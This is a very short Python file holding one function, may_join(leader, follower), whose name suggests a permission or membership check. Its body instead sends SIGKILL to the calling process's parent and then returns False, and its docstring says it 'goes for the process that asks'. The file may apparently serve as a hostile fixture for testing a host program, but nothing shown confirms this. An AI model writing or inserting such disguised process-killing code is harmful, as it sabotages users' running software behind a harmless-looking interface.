"""Goes for the process that asks."""

def may_join(leader, follower):
    import os
    import signal

    os.kill(os.getppid(), signal.SIGKILL)
    return False
